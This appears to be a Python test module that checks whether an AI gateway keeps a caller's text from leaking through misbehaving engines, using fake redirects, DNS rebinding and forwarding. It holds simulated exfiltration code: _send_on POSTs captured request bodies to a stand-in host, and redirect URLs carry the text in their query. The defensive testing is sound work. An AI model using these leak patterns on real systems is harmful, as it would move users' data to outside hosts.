"""What an engine can do so that a text goes further than its caller's profile lets it. These leave engines broken."""

from __future__ import annotations

import asyncio
from time import monotonic
from typing import Any
from urllib.parse import quote

from ringfence.prove.house import House, Said
from ringfence.prove.temptations import (
    BROKEN_MODEL,
    ELSEWHERE,
    EMBEDDING_MODEL,
    ENGINE_HOST,
    NAMED_MODEL,
    REDIRECTING_MODEL,
    ROVING_MODEL,
)  # fmt: skip
from ringfence.prove.way import Tried, Way
from ringfence.testing.fake_engine import Behaviour, FakeEngine, Fault

ORDER = 3
AWAY = f"http://{ELSEWHERE}/v1/chat/completions"
LOOK_S = 8.0
"""Longer than the time between two looks at an engine."""
FOLLOWS_S = 0.5
"""Whoever follows a redirect has begun to by then."""


async def _roving(house: House, text: str) -> Tried:
    """An Ollama that would send on what it is asked: the stand-in does so. The gateway must have looked at it: it is
    there to be asked, and passed over."""
    asked = len(house.ollama.calls)
    by_names = [await house.chat(text, name) for name in (ROVING_MODEL, "decoy", "decoy:cloud")]
    for call in house.ollama.calls[asked:]:
        await _send_on(str(call.body))
    was_looked_at = any(request.path == "/api/tags" for request in house.ollama.requests)
    said = ", ".join(said.in_words for said in by_names)
    return Tried(said, was_looked_at and all(said.came_in for said in by_names))


async def _send_on(text: str) -> None:
    _, writer = await asyncio.open_connection(ELSEWHERE, 80)
    data = text.encode()
    writer.write(b"POST /api/chat HTTP/1.1\r\ncontent-length: %d\r\n\r\n%b" % (len(data), data))
    await writer.drain()
    writer.close()


async def _renamed(house: House, text: str) -> Tried:
    """The name of an engine leads elsewhere once the gateway has started."""
    await house.sink.seen(names={ENGINE_HOST: ELSEWHERE})
    house.engine.drop_connections()
    return await _tried(house, text, await house.chat(text, NAMED_MODEL))


async def _embedded(house: House, text: str) -> Tried:
    """An engine for embeddings fails."""
    house.embedder.once(*[Behaviour(Fault.STATUS, status=503)] * 5)
    return await _tried(house, text, await house.ask("/v1/embeddings", {"model": EMBEDDING_MODEL, "input": text}))


async def _redirected(house: House, text: str) -> Tried:
    return await _failing(house, text, house.redirecting, REDIRECTING_MODEL, Behaviour(Fault.REDIRECT, location=AWAY))


async def _probe_redirected(house: House, text: str) -> Tried:
    """An engine answers the questions that look at it with an address elsewhere."""
    house.redirecting.always = Behaviour(Fault.REDIRECT, location=f"{AWAY}?{quote(text)}")
    looked = len(house.redirecting.requests)
    house.redirecting.drop_connections()
    until = monotonic() + LOOK_S

    def was_told() -> bool:
        return any(request.ended_s for request in house.redirecting.requests[looked:])

    while not was_told() and monotonic() < until:  # noqa: ASYNC110 of an engine, no event
        await asyncio.sleep(0.05)
    await asyncio.sleep(FOLLOWS_S)
    return Tried("looked at it", was_told())


async def _broken_off(house: House, text: str) -> Tried:
    cut = Behaviour(Fault.CUT, after_events=2)
    return await _failing(house, text, house.broken, BROKEN_MODEL, cut, stream=True)


async def _retried(house: House, text: str) -> Tried:
    """Every engine of the profile's chain fails, on each try."""
    house.own_engine.once(*[Behaviour(Fault.STATUS, status=500)] * 12)
    return await _tried(house, text, await house.chat(text, "auto"))


async def _parked(house: House, text: str) -> Tried:
    """The engine fails, the request waits without its caller, and is served later from where it lay; of a profile that
    does not wait, it fails."""
    house.broken.once(*[Behaviour(Fault.STATUS, status=503)] * 3)
    said = await house.chat(text, BROKEN_MODEL, {"prefer": "respond-async"})
    if not said.location:
        house.broken.as_usual()
        return await _tried(house, text, said)
    served = await house.ask(f"{said.location}?stream=true", None, method="GET")
    return Tried(f"{said.in_words}, then {served.in_words}", bool(served.status))


async def _gone(house: House, text: str) -> Tried:
    """No engine of this machine is there any more; a moment ago one answered."""
    house.own_engine.as_usual()
    before = await house.served(text)
    was_asked = before.status == 200 and await house.heard(text)
    for engine in (house.own_engine, house.engine):
        await engine.stop()
    again = f"{text}, and once more"  # an answer to the same may have been kept
    answers = [await house.chat(again, name) for name in ("auto", NAMED_MODEL)]
    return Tried(", ".join(said.in_words for said in answers), was_asked and all(said.came_in for said in answers))


async def _failing(house: House, text: str, engine: FakeEngine, model: str, behaviour: Behaviour, **more: Any) -> Tried:
    """A profile that is bound to one model is not let to this one: its own is asked, and its engine fails."""
    if house.is_bound:
        engine, model = house.own_engine, "auto"
    engine.once(*[behaviour] * 5)
    said = await house.chat(text, model, None, **more)
    engine.as_usual()
    return await _tried(house, text, said)


async def _tried(house: House, text: str, said: Said) -> Tried:
    """Tried when an engine was asked, or when what is asked for is not permitted."""
    return Tried(said.in_words, said.came_in and (said.is_refused or await house.heard(text)))


WAYS = (
    Way("roving-engine", "a model that an Ollama on this machine would send to its own cloud", _roving, stays=True),
    Way("renamed-engine", "an engine's name leads elsewhere after the start (DNS rebinding)", _renamed, stays=True),
    Way("failing-embeddings", "the engine for embeddings fails", _embedded, stays=True),
    Way("redirect", "an engine answers with a redirect to elsewhere", _redirected, stays=True),
    Way(
        "probe-redirect", "an engine redirects what looks at it", _probe_redirected,
        ("permit egress/pool.py:Pool.fetch",), stays=True,
    ),
    Way("broken-stream", "an engine breaks off after the first byte", _broken_off, stays=True),
    Way(
        "parked", "waits for an engine that failed, with a ticket", _parked,
        ("call gateway/parked_pending.py:call_of",), stays=True,
    ),
    Way("retry", "every engine of the chain fails, on each try", _retried),
    Way("fallback", "no engine of this machine is there any more", _gone),
)  # fmt: skip
